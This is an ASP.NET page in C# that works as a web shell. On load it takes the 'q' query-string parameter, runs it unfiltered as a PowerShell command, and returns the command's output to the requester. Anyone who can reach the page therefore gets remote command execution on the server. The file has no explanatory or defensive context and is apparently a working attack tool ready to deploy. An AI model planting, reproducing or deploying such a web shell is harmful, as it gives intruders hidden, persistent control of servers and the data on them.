<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    string q = Request.QueryString["q"];
    if (q == null) return;
    var psi = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-NoProfile -NonInteractive -Command " + q);
    psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
    Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
